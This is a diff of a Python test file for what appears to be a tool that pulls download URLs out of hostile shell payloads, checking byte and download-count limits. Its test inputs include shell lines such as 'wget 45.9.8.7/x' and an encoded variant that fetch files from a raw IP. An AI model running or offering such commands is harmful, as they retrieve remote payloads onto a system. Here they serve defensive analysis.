@@ -167,11 +167,14 @@ def test_hostile_payloads_cost_their_limits(payload: bytes) -> None:
 
 
 def test_limits_are_where_they_say() -> None:
-    command = b"\nh=45.9.8.7; wget $h/x\n"
-    for limit in (extract_module.PAYLOAD_BYTES_MAX, extract_module.SHELL_BYTES_MAX // 2):
-        padding = b"#!/bin/sh\n" + (b"# " + b"r" * 997 + b"\n") * (limit // 1000 + 1)
-        assert fetched(padding[: limit - len(command)] + command) == ([f"{H}/x"] if limit < 200_000 else [])
-        assert fetched(padding[:limit] + command) == []
+    remarks = (b"# " + b"r" * 997 + b"\n") * 300
+    command = b"\nwget 45.9.8.7/x\n"
+    limit = extract_module.PAYLOAD_BYTES_MAX
+    assert fetched(remarks[: limit - len(command)] + command) == [f"{H}/x"]
+    assert fetched(remarks[:limit] + command) == []
+    limit, command = extract_module.SHELL_BYTES_MAX // 4, b"\nwget $h/x\n"  # of one script
+    assert fetched((b"h=45.9.8.7\n" + remarks)[: limit - len(command)] + command) == [f"{H}/x"]
+    assert fetched((b"h=45.9.8.7\n" + remarks)[:limit] + command) == []
     whole = b"%77get 45.9.8.7/x # ".ljust(extract_module.PAYLOAD_BYTES_MAX, b"%")
     assert fetched(whole) == [f"{H}/x"]  # the largest payload still has its wrapping undone
     many = b"\n".join(b"x%d=1; wget 45.9.8.7/%d" % (n, n) for n in range(DOWNLOADS_MAX + 1))
